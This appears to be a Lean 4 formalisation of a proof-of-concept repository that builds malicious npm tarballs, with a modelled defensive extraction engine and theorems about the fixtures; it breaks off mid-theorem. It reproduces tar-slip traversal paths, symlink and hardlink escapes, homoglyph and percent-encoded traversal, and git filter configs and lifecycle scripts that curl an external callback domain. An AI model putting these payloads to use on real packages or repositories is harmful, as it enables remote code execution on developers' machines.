import Mathlib

set_option maxRecDepth 100000

/-!
Verification development for the dataform-poc repository.

The repository consists of four Python scripts that generate malicious
npm-style tarballs (path traversal, symlink/hardlink escapes, Unicode
homoglyph dots, percent-encoded traversal, lifecycle-script payloads).
The specification re-frames the repository as a defensive archive
extraction engine; the engine itself has no source under src/, so it is
modelled here from the specification's words, while the tarball
generators are embedded directly from their Python sources.
-/

/-- Entry type flags of Python tarfile: REGTYPE, DIRTYPE, SYMTYPE, LNKTYPE,
plus a catch-all for the remaining flags the fixtures never use. -/
inductive TarType
| REGTYPE
| DIRTYPE
| SYMTYPE
| LNKTYPE
| OTHER
deriving DecidableEq, Repr

/-- One archive member: the tarfile.TarInfo header fields the scripts set
(name, type, linkname, size, mode) together with the payload bytes passed
to tar.addfile. Payload bytes are modelled as a Lean String; sizes count
UTF-8 bytes, matching len() on the Python bytes objects. -/
structure ArchiveEntry where
  name : String
  etype : TarType
  linkname : String
  size : Nat
  mode : Nat
  payload : String
deriving DecidableEq, Repr

/-- UTF-8 byte length of a string, matching len() of the Python bytes
obtained by .encode(). -/
def utf8Len (s : String) : Nat :=
  s.data.foldl (fun n c => n + c.utf8Size) 0

/-- Decidable equality for Except results, needed to evaluate the engine's
classifier and normalizer on concrete entries. -/
instance exceptDecidableEq {ε α : Type} [DecidableEq ε] [DecidableEq α] :
    DecidableEq (Except ε α) := fun x y =>
  match x, y with
  | Except.ok a, Except.ok b =>
    if h : a = b then Decidable.isTrue (by rw [h])
    else Decidable.isFalse (fun hc => h (by injection hc))
  | Except.error a, Except.error b =>
    if h : a = b then Decidable.isTrue (by rw [h])
    else Decidable.isFalse (fun hc => h (by injection hc))
  | Except.ok _, Except.error _ => Decidable.isFalse (fun hc => by injection hc)
  | Except.error _, Except.ok _ => Decidable.isFalse (fun hc => by injection hc)

namespace NpmBypass

/-- OAST constant of src/npm_bypass_tests/create_all_tarballs.py. -/
def OAST : String := "juolbtoughjktrdppdvuqemhwftehn8z6.oast.fun"

/-- Base package.json bytes returned by create_base_package. -/
def base_pkg : String :=
  "\x7b\"name\":\"test\",\"version\":\"1.0.0\",\"main\":\"index.js\"\x7d"

/-- Base index.js bytes returned by create_base_package. -/
def base_idx : String := "module.exports = \x7bloaded: true\x7d;"

/-- The malicious_git_config helper: a git config whose filter/diff
commands call out to the OAST domain, parametrised by a marker. -/
def malicious_git_config (marker : String) : String :=
  "[core]\n    repositoryformatversion = 0\n    filemode = true\n    bare = false\n[filter \""
    ++ marker ++ "\"]\n    smudge = curl https://" ++ OAST ++ "/" ++ marker
    ++ "\n    clean = cat\n[diff \"" ++ marker ++ "\"]\n    textconv = curl https://"
    ++ OAST ++ "/" ++ marker ++ "-diff\n"

/-- The add_file helper: TarInfo(name) with size set to len(content), all
other header fields left at tarfile defaults (REGTYPE, mode 0o644, empty
linkname), plus the payload. -/
def add_file (name content : String) : ArchiveEntry :=
  { name := name, etype := TarType.REGTYPE, linkname := "",
    size := utf8Len content, mode := 420, payload := content }

/-- A TarInfo(name) given type SYMTYPE and a linkname, other fields left at
tarfile defaults (size 0, mode 0o644), added with no payload. -/
def symlink_member (name target : String) : ArchiveEntry :=
  { name := name, etype := TarType.SYMTYPE, linkname := target,
    size := 0, mode := 420, payload := "" }

/-- A TarInfo(name) given type LNKTYPE and a linkname, other fields left at
tarfile defaults, added with no payload. -/
def hardlink_member (name target : String) : ArchiveEntry :=
  { name := name, etype := TarType.LNKTYPE, linkname := target,
    size := 0, mode := 420, payload := "" }

/-- Entry list of unicode.tar.gz built by test_unicode_normalization: the
base package plus one traversal path per homoglyph-dot variant
(U+FF0E fullwidth full stop, U+2024 one dot leader, U+FE52 small full
stop), each doubled and used as a path segment three times. -/
def test_unicode_normalization : List ArchiveEntry :=
  [ add_file "package/package.json" base_pkg,
    add_file "package/index.js" base_idx,
    add_file "package/．．/．．/．．/.git/config"
      (malicious_git_config "unicode-fullwidth"),
    add_file "package/․․/․․/․․/.git/config"
      (malicious_git_config "unicode-onedot"),
    add_file "package/﹒﹒/﹒﹒/﹒﹒/.git/config"
      (malicious_git_config "unicode-small") ]

/-- Entry list of absolute.tar.gz built by test_absolute_paths. -/
def test_absolute_paths : List ArchiveEntry :=
  [ add_file "package/package.json" base_pkg,
    add_file "package/index.js" base_idx,
    add_file "///.git/config" (malicious_git_config "abs-3slash"),
    add_file "////.git/config" (malicious_git_config "abs-4slash"),
    add_file "/////.git/config" (malicious_git_config "abs-5slash"),
    add_file "///////tmp/evil" (malicious_git_config "abs-7slash") ]

/-- Entry list of symlink.tar.gz built by test_symlink_attack: a symlink to
.git/config, the directory-to-symlink swap triple, and a symlink to the
parent directory followed by a deep path through it. -/
def test_symlink_attack : List ArchiveEntry :=
  [ add_file "package/package.json" base_pkg,
    add_file "package/index.js" base_idx,
    symlink_member "package/evil_link" "../../../.git/config",
    { name := "package/swap/", etype := TarType.DIRTYPE, linkname := "",
      size := 0, mode := 493, payload := "" },
    symlink_member "package/swap" "../../../.git",
    add_file "package/swap/config" (malicious_git_config "symlink-swap"),
    symlink_member "package/parent" "..",
    add_file "package/parent/parent/parent/.git/config"
      (malicious_git_config "symlink-parent") ]

/-- Entry list of hardlink.tar.gz built by test_hardlink_attack. -/
def test_hardlink_attack : List ArchiveEntry :=
  [ add_file "package/package.json" base_pkg,
    add_file "package/index.js" base_idx,
    hardlink_member "package/hardlink_config" "../../../.git/config",
    hardlink_member "package/hardlink_attrs" "../../../.gitattributes" ]

/-- The bin-traversal package.json bytes of test_bin_traversal (Python
b''' literal; the doubled backslashes of the Python source denote literal
backslash pairs in the stored bytes). -/
def bin_pkg : String :=
  "\x7b\n  \"name\": \"bin-test\",\n  \"version\": \"1.0.0\",\n  \"main\": \"index.js\",\n  \"bin\": \x7b\n    \"../../../.git/config\": \"./evil.sh\",\n    \"../../../../.gitattributes\": \"./attrs.sh\",\n    \"..\\\\..\\\\..\\\\../.git/config\": \"./evil.sh\"\n  \x7d\n\x7d"

/-- The evil.sh bytes of test_bin_traversal. -/
def bin_evil_sh : String := "#!/bin/sh\ncurl https://" ++ OAST ++ "/bin-traversal\n"

/-- The attrs.sh bytes of test_bin_traversal. -/
def bin_attrs_sh : String := "* filter=exploit\n* diff=exploit\n"

/-- Entry list of bin_traversal.tar.gz built by test_bin_traversal. -/
def test_bin_traversal : List ArchiveEntry :=
  [ add_file "package/package.json" bin_pkg,
    add_file "package/index.js" "module.exports = \x7bloaded: true\x7d;",
    add_file "package/evil.sh" bin_evil_sh,
    add_file "package/attrs.sh" bin_attrs_sh ]

/-- The package.json bytes of test_mixed_attack. -/
def mixed_pkg : String :=
  "\x7b\n  \"name\": \"mixed-attack\",\n  \"version\": \"1.0.0\",\n  \"main\": \"index.js\",\n  \"bin\": \x7b\n    \"../../../.gitattributes\": \"./gitattrs\"\n  \x7d\n\x7d"

/-- Entry list of mixed.tar.gz built by test_mixed_attack. -/
def test_mixed_attack : List ArchiveEntry :=
  [ add_file "package/package.json" mixed_pkg,
    add_file "package/index.js" "module.exports = \x7b\x7d;",
    add_file "package/gitattrs" "* filter=exploit\n* diff=exploit\n",
    symlink_member "package/git_link" "../../../.git",
    add_file "package/git_link/config" (malicious_git_config "mixed") ]

/-- Entry list of path_tricks.tar.gz built by test_path_variations. -/
def test_path_variations : List ArchiveEntry :=
  [ add_file "package/package.json" base_pkg,
    add_file "package/index.js" base_idx,
    add_file "package/./../../.git/config" (malicious_git_config "dot-slash"),
    add_file "package/../package/../../../.git/config" (malicious_git_config "back-forth"),
    add_file "package/.../.git/config" (malicious_git_config "triple-dot"),
    add_file "package/..%2f..%2f..%2f.git/config" (malicious_git_config "url-encoded"),
    add_file "package/..%252f..%252f..%252f.git/config" (malicious_git_config "double-encoded") ]

/-- The seven archives produced by create_all_tarballs, in script order. -/
def all_archives : List (List ArchiveEntry) :=
  [ test_unicode_normalization,
    test_absolute_paths,
    test_symlink_attack,
    test_hardlink_attack,
    test_bin_traversal,
    test_mixed_attack,
    test_path_variations ]

end NpmBypass

namespace Bundled

/-- OAST constant of src/npm_bypass_tests/create_bundled_tarball.py. -/
def OAST : String := "juolbtoughjktrdppdvuqemhwftehn8z6.oast.fun"

/-- Outer package.json bytes with bundledDependencies. -/
def outer_pkg : String :=
  "\x7b\n  \"name\": \"bundled-test\",\n  \"version\": \"1.0.0\",\n  \"main\": \"index.js\",\n  \"bundledDependencies\": [\"inner-pkg\"],\n  \"dependencies\": \x7b\n    \"inner-pkg\": \"1.0.0\"\n  \x7d\n\x7d"

/-- Outer index.js bytes. -/
def outer_idx : String := "module.exports = \x7b bundled: true \x7d;"

/-- Inner package.json bytes with all five lifecycle scripts calling the
OAST domain (Python f-string; doubled braces denote literal braces). -/
def inner_pkg : String :=
  "\x7b\n  \"name\": \"inner-pkg\",\n  \"version\": \"1.0.0\",\n  \"main\": \"index.js\",\n  \"scripts\": \x7b\n    \"preinstall\": \"curl -s https://"
    ++ OAST ++ "/bundled-preinstall || true\",\n    \"install\": \"curl -s https://"
    ++ OAST ++ "/bundled-install || true\",\n    \"postinstall\": \"curl -s https://"
    ++ OAST ++ "/bundled-postinstall || true\",\n    \"prepare\": \"curl -s https://"
    ++ OAST ++ "/bundled-prepare || true\",\n    \"prepublish\": \"curl -s https://"
    ++ OAST ++ "/bundled-prepublish || true\"\n  \x7d\n\x7d"

/-- Inner index.js bytes. -/
def inner_idx : String := "module.exports = \x7b inner: true \x7d;"

/-- The add_file helper of create_bundled_tarball.py: size set to
len(content) and mode set explicitly to 0o644. -/
def add_file (name content : String) : ArchiveEntry :=
  { name := name, etype := TarType.REGTYPE, linkname := "",
    size := utf8Len content, mode := 420, payload := content }

/-- Entry list of bundled_test.tar.gz built by create_bundled_tarball. -/
def create_bundled_tarball : List ArchiveEntry :=
  [ add_file "package/package.json" outer_pkg,
    add_file "package/index.js" outer_idx,
    add_file "package/node_modules/inner-pkg/package.json" inner_pkg,
    add_file "package/node_modules/inner-pkg/index.js" inner_idx ]

end Bundled

namespace TarSlip

/-- OAST_ENDPOINT constant of src/tar_slip/create_tarball.py. -/
def OAST_ENDPOINT : String := "juolbtoughjktrdppdvuqemhwftehn8z6.oast.fun"

/-- package.json bytes of evil.tar.gz. -/
def pkg_json : String :=
  "\x7b\n  \"name\": \"evil-pkg\",\n  \"version\": \"1.0.0\",\n  \"main\": \"index.js\"\n\x7d"

/-- index.js bytes of evil.tar.gz. -/
def index_js : String :=
  "// This code runs when require()\x27d\nconsole.log(\"[*] evil-pkg loaded\");\nmodule.exports = \x7b loaded: true, timestamp: Date.now() \x7d;\n"

/-- The malicious git config bytes whose filter/diff/remote settings call
out to the OAST endpoint. -/
def git_config : String :=
  "[core]\n    repositoryformatversion = 0\n    filemode = true\n    bare = false\n    logallrefupdates = true\n[filter \"exploit\"]\n    smudge = curl https://"
    ++ OAST_ENDPOINT ++ "/tar-slip-rce-smudge\n    clean = curl https://"
    ++ OAST_ENDPOINT ++ "/tar-slip-rce-clean\n[diff \"exploit\"]\n    textconv = curl https://"
    ++ OAST_ENDPOINT ++ "/tar-slip-rce-diff\n[remote \"origin\"]\n    url = https://github.com/nirohfeld/dataform-poc.git\n    fetch = +refs/heads/*:refs/remotes/origin/*\n[branch \"main\"]\n    remote = origin\n    merge = refs/heads/main\n"

/-- The .gitattributes bytes enabling the exploit filter. -/
def gitattributes : String := "* filter=exploit\n* diff=exploit\n"

/-- A TarInfo(name) file member with size = len(content), as built inline
throughout create_tarslip_tarball. -/
def file_member (name content : String) : ArchiveEntry :=
  { name := name, etype := TarType.REGTYPE, linkname := "",
    size := utf8Len content, mode := 420, payload := content }

/-- Entry list of evil.tar.gz built by create_tarslip_tarball: the benign
package files, five parent-traversal copies of the git config (one to five
levels of dot-dot), and five parent-traversal copies of .gitattributes. -/
def create_tarslip_tarball : List ArchiveEntry :=
  [ file_member "package/package.json" pkg_json,
    file_member "package/index.js" index_js,
    file_member "package/../.git/config" git_config,
    file_member "package/../../.git/config" git_config,
    file_member "package/../../../.git/config" git_config,
    file_member "package/../../../../.git/config" git_config,
    file_member "package/../../../../../.git/config" git_config,
    file_member "package/../.gitattributes" gitattributes,
    file_member "package/../../.gitattributes" gitattributes,
    file_member "package/../../../.gitattributes" gitattributes,
    file_member "package/../../../../.gitattributes" gitattributes,
    file_member "package/../../../../../.gitattributes" gitattributes ]

end TarSlip

namespace EvilTarball

/-- PACKAGE_NAME constant of src/create_evil_tarball.py. -/
def PACKAGE_NAME : String := "evil-pkg"

/-- VERSION constant of src/create_evil_tarball.py. -/
def VERSION : String := "1.0.0"

/-- OAST_DOMAIN constant of src/create_evil_tarball.py. -/
def OAST_DOMAIN : String := "juolbtoughjktrdppdvuqemhwftehn8z6.oast.fun"

/-- The create_tarball function of create_evil_tarball.py: it adds exactly
five regular-file members, each with size set to len() of the bytes being
added. The module-level payload texts (the serialized PACKAGE_JSON,
INDEX_JS, BINDING_GYP, PACKAGE_NPMRC, PRELOAD_JS) are large generated
strings whose content never influences the header fields; the function is
therefore embedded parametrically in those five byte strings. -/
def create_tarball (package_json_bytes index_js_bytes binding_gyp_bytes
    npmrc_bytes preload_js_bytes : String) : List ArchiveEntry :=
  [ { name := "package/package.json", etype := TarType.REGTYPE, linkname := "",
      size := utf8Len package_json_bytes, mode := 420, payload := package_json_bytes },
    { name := "package/index.js", etype := TarType.REGTYPE, linkname := "",
      size := utf8Len index_js_bytes, mode := 420, payload := index_js_bytes },
    { name := "package/binding.gyp", etype := TarType.REGTYPE, linkname := "",
      size := utf8Len binding_gyp_bytes, mode := 420, payload := binding_gyp_bytes },
    { name := "package/.npmrc", etype := TarType.REGTYPE, linkname := "",
      size := utf8Len npmrc_bytes, mode := 420, payload := npmrc_bytes },
    { name := "package/preload.js", etype := TarType.REGTYPE, linkname := "",
      size := utf8Len preload_js_bytes, mode := 420, payload := preload_js_bytes } ]

end EvilTarball

namespace Engine

/-- Modelled from the spec: the error taxonomy of section 7 (the per-entry
kinds; the fatal stream/IO kinds never arise in the pure model). -/
inductive Rejection
| invalidEncoding
| pathEscape
| typeConflict
| unsupportedEntryType
| linkTargetEscape
| linkTargetMissing
| entryTooLarge
| totalSizeExceeded
deriving DecidableEq, Repr

/-- Modelled from the spec: the Entry Classifier's output taxonomy
(File, Directory, Symlink, Hardlink). -/
inductive EntryKind
| file
| directory
| symlink
| hardlink
deriving DecidableEq, Repr

/-- Modelled from the spec: a filesystem object materialized under the
extraction root during one run. -/
inductive FSNode
| dir
| file (payload : String)
| symlink (target : String)
deriving DecidableEq, Repr

/-- Modelled from the spec: the caller options enumerated in section 4.4
(stripComponents, allowSymlinks, allowHardlinks, maxEntrySize,
maxTotalSize; followDeclaredMode only affects permission bits, which the
model does not track). -/
structure Options where
  stripComponents : Nat
  allowSymlinks : Bool
  allowHardlinks : Bool
  maxEntrySize : Nat
  maxTotalSize : Nat
deriving DecidableEq, Repr

/-- Modelled from the spec: one per-entry outcome of the ExtractionReport. -/
inductive Outcome
| written (path : String)
| skipped (path : String)
| rejected (path : String) (reason : Rejection)
deriving DecidableEq, Repr

/-- Modelled from the spec: the state of one extract run. The filesystem
under the root is an association list keyed by root-relative segment
lists (it doubles as the LinkRegistry); writes records, for audit, every
filesystem write performed, as the pair of the filesystem content at the
moment of the write and the root-relative location written. -/
structure EngineState where
  fs : List (List String × FSNode)
  totalSize : Nat
  report : List Outcome
  writes : List (List (List String × FSNode) × List String)
deriving DecidableEq, Repr

/-- Is the first character list a leading block of the second? -/
def charsLead : List Char → List Char → Bool
| [], _ => true
| _ :: _, [] => false
| a :: as, b :: bs => a == b && charsLead as bs

/-- Does the second character list contain the first as a contiguous block? -/
def charsContain (pat : List Char) : List Char → Bool
| [] => charsLead pat []
| c :: rest => charsLead pat (c :: rest) || charsContain pat rest

/-- Does the string s end with the string t? -/
def strEndsWith (s t : String) : Bool :=
  charsLead t.data.reverse s.data.reverse

/-- Path separator characters (forward and back slash). -/
def isSep (c : Char) : Bool := c == '/' || c == '\\'

/-- Split a character list into path segments at separators. -/
def splitAux : List Char → List Char → List String
| acc, [] => [String.mk acc.reverse]
| acc, c :: cs => if isSep c then String.mk acc.reverse :: splitAux [] cs else splitAux (c :: acc) cs

/-- Modelled from the spec: the Unicode normalization step of the Path
Normalizer, restricted to the homoglyph dots the repository's fixtures
exercise — U+FF0E fullwidth full stop, U+2024 one dot leader and U+FE52
small full stop are folded to an ASCII dot before any separator or
dot-segment interpretation. -/
def nfcChar (c : Char) : Char :=
  if c = '．' ∨ c = '․' ∨ c = '﹒' then '.' else c

/-- Apply the normalization character fold to a whole string. -/
def nfcNormalize (s : String) : String := String.mk (s.data.map nfcChar)

/-- Does the string contain an embedded NUL character? -/
def hasNul (s : String) : Bool := s.data.any (fun c => c == Char.ofNat 0)

/-- Modelled from the spec: percent-escape sequences that decode to a
separator, a dot, or (double encoding) a further percent escape; their
mere presence in a stored path is rejected, never decoded-and-accepted. -/
def percentBanned (s : String) : Bool :=
  [ "%2f", "%2F", "%5c", "%5C", "%2e", "%2E", "%25" ].any
    (fun p => charsContain p.data s.data)

/-- Does the (already normalized) path begin with a separator, i.e. is it
absolute, however many leading slashes are present? -/
def startsAbs (s : String) : Bool :=
  match s.data with
  | [] => false
  | c :: _ => isSep c

/-- Modelled from the spec: the Path Normalizer of section 4.1. The raw
stored path is normalized, scanned for NUL and banned percent escapes,
rejected if absolute, split into segments with empty and single-dot
segments dropped, rejected if any dot-dot segment survives normalization,
stripped of the leading stripComponents segments, and rejected if nothing
remains (a write at the root itself is disallowed). The surviving segment
list is root-relative with no dot-dot, so its join to the root is
lexically a strict descendant of the root. -/
def normalize (opts : Options) (raw : String) : Except Rejection (List String) :=
  let s := nfcNormalize raw
  if hasNul s then Except.error Rejection.invalidEncoding
  else if percentBanned s then Except.error Rejection.pathEscape
  else if startsAbs s then Except.error Rejection.pathEscape
  else
    let segs0 := (splitAux [] s.data).filter (fun t => t != "" && t != ".")
    if ".." ∈ segs0 then Except.error Rejection.pathEscape
    else
      let segs := segs0.drop opts.stripComponents
      if segs = [] then Except.error Rejection.pathEscape
      else Except.ok segs

/-- Modelled from the spec: the Entry Classifier of section 4.2 — the four
supported type flags map to entry kinds, anything else is rejected
rather than defaulted to a file. -/
def classify (e : ArchiveEntry) : Except Rejection EntryKind :=
  match e.etype with
  | TarType.REGTYPE => Except.ok EntryKind.file
  | TarType.DIRTYPE => Except.ok EntryKind.directory
  | TarType.SYMTYPE => Except.ok EntryKind.symlink
  | TarType.LNKTYPE => Except.ok EntryKind.hardlink
  | TarType.OTHER => Except.error Rejection.unsupportedEntryType

/-- Resolve dot-dot segments lexically against an accumulated
root-relative position; popping past the root is an escape (none). -/
def resolveDots : List String → List String → Option (List String)
| acc, [] => some acc
| acc, s :: rest =>
  if s = ".." then
    match acc with
    | [] => none
    | _ :: _ => resolveDots acc.dropLast rest
  else resolveDots (acc ++ [s]) rest

/-- Modelled from the spec: Link Resolver target validation — an absolute
target is unconditionally none (rejected), a relative target is
normalized, split, and resolved against the parent directory of the link
location; dot-dot resolution past the root is none. -/
def resolveTarget (parent : List String) (target : String) : Option (List String) :=
  let t := nfcNormalize target
  if startsAbs t then none
  else resolveDots parent ((splitAux [] t.data).filter (fun u => u != "" && u != "."))

/-- Look up a root-relative path in the materialized filesystem. -/
def lookupFS (fs : List (List String × FSNode)) (p : List String) : Option FSNode :=
  match fs with
  | [] => none
  | q :: rest => if q.1 = p then some q.2 else lookupFS rest p

/-- Modelled from the spec: every proper ancestor of the target path must
already be a real directory (never a symlink, never absent), re-validated
for every entry before creating or opening the final object. -/
def ancestorsAreDirs (fs : List (List String × FSNode)) (segs : List String) : Bool :=
  (List.range segs.length).all (fun i =>
    (segs.take i).isEmpty
      || (match lookupFS fs (segs.take i) with
          | some FSNode.dir => true
          | _ => false))

/-- Does an existing filesystem object match the entry kind, so that the
entry may be skipped idempotently? Only a directory entry over an
existing directory matches; any other combination is a conflict, since
files and symlinks are created with create-exclusive semantics. -/
def sameKind : FSNode → EntryKind → Bool
| FSNode.dir, EntryKind.directory => true
| _, _ => false

/-- The action the Extraction Engine decides for one entry. -/
inductive Action
| rejectA (r : Rejection)
| skipA
| writeA (segs : List String) (node : FSNode) (add : Nat)
deriving DecidableEq, Repr

/-- Modelled from the spec: the per-entry decision of the Extraction Engine
(section 4.4): classify, normalize the stored path, reject a re-declared
path as a TypeConflict (an object materialized earlier in the run is
never replaced), then apply the per-kind rules — directories and files
need all ancestors to be real directories; files respect the size
limits; symlink targets are validated (absolute or root-escaping targets
are a LinkTargetEscape regardless of what exists on disk) before the
allowSymlinks gate; hardlink targets must already be materialized as
files within the run. -/
def planEntry (opts : Options) (fs : List (List String × FSNode)) (total : Nat)
    (e : ArchiveEntry) : Action :=
  match classify e with
  | Except.error r => Action.rejectA r
  | Except.ok k =>
    match normalize opts e.name with
    | Except.error r => Action.rejectA r
    | Except.ok segs =>
      match lookupFS fs segs with
      | some node =>
        if sameKind node k then Action.skipA else Action.rejectA Rejection.typeConflict
      | none =>
        match k with
        | EntryKind.directory =>
          if ancestorsAreDirs fs segs then Action.writeA segs FSNode.dir 0
          else Action.rejectA Rejection.linkTargetMissing
        | EntryKind.file =>
          if opts.maxEntrySize < e.size then Action.rejectA Rejection.entryTooLarge
          else if opts.maxTotalSize < total + e.size then Action.rejectA Rejection.totalSizeExceeded
          else if ancestorsAreDirs fs segs then Action.writeA segs (FSNode.file e.payload) e.size
          else Action.rejectA Rejection.linkTargetMissing
        | EntryKind.symlink =>
          match resolveTarget segs.dropLast e.linkname with
          | none => Action.rejectA Rejection.linkTargetEscape
          | some dest =>
            if dest.isEmpty then Action.rejectA Rejection.linkTargetEscape
            else if opts.allowSymlinks then
              if ancestorsAreDirs fs segs then Action.writeA segs (FSNode.symlink e.linkname) 0
              else Action.rejectA Rejection.linkTargetMissing
            else Action.rejectA Rejection.unsupportedEntryType
        | EntryKind.hardlink =>
          if opts.allowHardlinks then
            match resolveTarget [] e.linkname with
            | none => Action.rejectA Rejection.linkTargetEscape
            | some dest =>
              match lookupFS fs dest with
              | some (FSNode.file pay) =>
                if ancestorsAreDirs fs segs then Action.writeA segs (FSNode.file pay) 0
                else Action.rejectA Rejection.linkTargetMissing
              | _ => Action.rejectA Rejection.linkTargetMissing
          else Action.rejectA Rejection.unsupportedEntryType

/-- Modelled from the spec: process one entry — record a rejection or skip
in the report, or perform the write, logging it in the write audit
trail together with the filesystem content at the moment of the write. -/
def processEntry (opts : Options) (st : EngineState) (e : ArchiveEntry) : EngineState :=
  match planEntry opts st.fs st.totalSize e with
  | Action.rejectA r => { st with report := Outcome.rejected e.name r :: st.report }
  | Action.skipA => { st with report := Outcome.skipped e.name :: st.report }
  | Action.writeA segs node add =>
    { fs := (segs, node) :: st.fs,
      totalSize := st.totalSize + add,
      report := Outcome.written e.name :: st.report,
      writes := (st.fs, segs) :: st.writes }

/-- Process the archive's entries sequentially in their natural order. -/
def runEntries (opts : Options) (st : EngineState) : List ArchiveEntry → EngineState
| [] => st
| e :: rest => runEntries opts (processEntry opts st e) rest

/-- The empty state of a fresh extraction run into a fresh root. -/
def initState : EngineState :=
  { fs := [], totalSize := 0, report := [], writes := [] }

/-- Modelled from the spec: extract(archive, root, options) — sequential
single-pass processing from the empty state. The report and the write
audit trail are accumulated most-recent-first. -/
def extract (opts : Options) (entries : List ArchiveEntry) : EngineState :=
  runEntries opts initState entries

/-- Is the node a symlink? -/
def isSymNode : Option FSNode → Bool
| some (FSNode.symlink _) => true
| _ => false

/-- Modelled from the spec: physical (post-symlink) resolution of a
root-relative path against the materialized filesystem, with fuel
against symlink cycles. Walking a dot-dot past the root and any symlink
whose target escapes yield none; a symlink met mid-path splices its
resolved target and restarts from the root. -/
def physResolve (fs : List (List String × FSNode)) : Nat → List String → List String → Option (List String)
| 0, _, _ => none
| _ + 1, acc, [] => some acc
| fuel + 1, acc, s :: rest =>
  if s = ".." then
    match acc with
    | [] => none
    | _ :: _ => physResolve fs fuel acc.dropLast rest
  else
    match lookupFS fs (acc ++ [s]) with
    | some (FSNode.symlink t) =>
      match resolveTarget acc t with
      | none => none
      | some dest => physResolve fs fuel [] (dest ++ rest)
    | _ => physResolve fs fuel (acc ++ [s]) rest

/-- A path strictly below the extraction root: the root followed by at
least one further segment. -/
def strictlyUnder (root p : List String) : Prop :=
  ∃ t, t ≠ [] ∧ p = root ++ t

end Engine

/-- Skip blanks, then read one double-quoted string value. -/
def readQuoted : List Char → Option String
| [] => none
| c :: rest =>
  if c = ' ' then readQuoted rest
  else if c = '"' then some (String.mk (rest.takeWhile (fun d => d != '"')))
  else none

/-- The remainder of a character list after the first occurrence of a
(nonempty) pattern block, if any. -/
def afterBlock (pat : List Char) : List Char → Option (List Char)
| [] => none
| c :: rest =>
  if Engine.charsLead pat (c :: rest) then some (List.drop pat.length (c :: rest))
  else afterBlock pat rest

/-- The value of the first "name" key of a JSON text: the quoted string
following the first occurrence of the quoted key and its colon. -/
def jsonNameValue (s : String) : Option String :=
  match afterBlock ("\"name\":".data) s.data with
  | none => none
  | some r => readQuoted r

/-- Payloads of the package.json members of an entry list. -/
def pkgJsonPayloads (es : List ArchiveEntry) : List String :=
  (es.filter (fun e => Engine.strEndsWith e.name "package.json")).map (fun e => e.payload)

/-- Claim C5: the attacker callback (OAST) domain is one shared constant —
all four source scripts define it as the identical literal string
juolbtoughjktrdppdvuqemhwftehn8z6.oast.fun. -/
theorem claim_C5_oast_domain_shared :
    NpmBypass.OAST = "juolbtoughjktrdppdvuqemhwftehn8z6.oast.fun"
    ∧ Bundled.OAST = "juolbtoughjktrdppdvuqemhwftehn8z6.oast.fun"
    ∧ TarSlip.OAST_ENDPOINT = "juolbtoughjktrdppdvuqemhwftehn8z6.oast.fun"
    ∧ EvilTarball.OAST_DOMAIN = "juolbtoughjktrdppdvuqemhwftehn8z6.oast.fun" :=
  ⟨rfl, rfl, rfl, rfl⟩

/-- Claim C4: symlink.tar.gz contains, as consecutive entries in this
order, a directory entry package/swap/, a symlink entry package/swap with
link target ../../../.git, and a regular-file entry package/swap/config —
the directory-to-symlink swap scenario. -/
theorem claim_C4_swap_triple_consecutive :
    (NpmBypass.test_symlink_attack.drop 3).take 3 =
      [ { name := "package/swap/", etype := TarType.DIRTYPE, linkname := "",
          size := 0, mode := 493, payload := "" },
        { name := "package/swap", etype := TarType.SYMTYPE, linkname := "../../../.git",
          size := 0, mode := 420, payload := "" },
        { name := "package/swap/config", etype := TarType.REGTYPE, linkname := "",
          size := utf8Len (NpmBypass.malicious_git_config "symlink-swap"), mode := 420,
          payload := NpmBypass.malicious_git_config "symlink-swap" } ] := by
  decide

/-- Claim C7: unicode.tar.gz consists of package/package.json,
package/index.js, and exactly three further entries whose stored paths are
package/DD/DD/DD/.git/config with DD a doubled U+FF0E, U+2024 and U+FE52
respectively. -/
theorem claim_C7_unicode_homoglyph_paths :
    NpmBypass.test_unicode_normalization.map (fun e => e.name) =
      [ "package/package.json",
        "package/index.js",
        "package/．．/．．/．．/.git/config",
        "package/․․/․․/․․/.git/config",
        "package/﹒﹒/﹒﹒/﹒﹒/.git/config" ]
    ∧ "．" = String.mk [Char.ofNat 0xFF0E]
    ∧ "․" = String.mk [Char.ofNat 0x2024]
    ∧ "﹒" = String.mk [Char.ofNat 0xFE52] := by
  decide

/-- Claim C8: path_tricks.tar.gz stores the percent-encoded and the
double-percent-encoded traversal paths as literal, undecoded strings. -/
theorem claim_C8_percent_encoded_fixtures :
    "package/..%2f..%2f..%2f.git/config"
        ∈ NpmBypass.test_path_variations.map (fun e => e.name)
    ∧ "package/..%252f..%252f..%252f.git/config"
        ∈ NpmBypass.test_path_variations.map (fun e => e.name) := by
  decide

/-- Claim C6 counterexample: two package.json payloads embedded by the very
same script carry different name values — unicode.tar.gz embeds
"name":"test" while bin_traversal.tar.gz embeds "name":"bin-test" — so not
every generated package.json carries the same name. -/
theorem claim_C6_counterexample :
    NpmBypass.add_file "package/package.json" NpmBypass.base_pkg
        ∈ NpmBypass.test_unicode_normalization
    ∧ NpmBypass.add_file "package/package.json" NpmBypass.bin_pkg
        ∈ NpmBypass.test_bin_traversal
    ∧ jsonNameValue NpmBypass.base_pkg = some "test"
    ∧ jsonNameValue NpmBypass.bin_pkg = some "bin-test"
    ∧ "test" ≠ "bin-test" := by
  decide

/-- Claim C6 (amended): each script embeds a fixed literal package name,
but the names differ across archives rather than being one global
constant: the five base-package archives carry "test", bin_traversal
carries "bin-test", mixed carries "mixed-attack", bundled_test carries
"bundled-test" and "inner-pkg", evil.tar.gz carries "evil-pkg", and
create_evil_tarball's PACKAGE_NAME constant is "evil-pkg". -/
theorem claim_C6_amended_names_fixed_per_archive :
    NpmBypass.all_archives.map (fun a => (pkgJsonPayloads a).map jsonNameValue) =
      [ [some "test"], [some "test"], [some "test"], [some "test"],
        [some "bin-test"], [some "mixed-attack"], [some "test"] ]
    ∧ (pkgJsonPayloads Bundled.create_bundled_tarball).map jsonNameValue =
        [some "bundled-test", some "inner-pkg"]
    ∧ (pkgJsonPayloads TarSlip.create_tarslip_tarball).map jsonNameValue =
        [some "evil-pkg"]
    ∧ EvilTarball.PACKAGE_NAME = "evil-pkg" := by
  decide

/-- Claim C9: in every archive generated by create_all_tarballs, every
symlink and every hardlink entry has a relative link target beginning with
two dots; in particular no generated link target is absolute. -/
theorem claim_C9_link_targets_relative_dotdot :
    ∀ a ∈ NpmBypass.all_archives, ∀ e ∈ a,
      (e.etype = TarType.SYMTYPE ∨ e.etype = TarType.LNKTYPE) →
      e.linkname.data.take 2 = ['.', '.'] ∧ Engine.startsAbs e.linkname = false := by
  decide

/-- Witness for claim C9 at the evil_link symlink of symlink.tar.gz. -/
theorem claim_C9_witness :
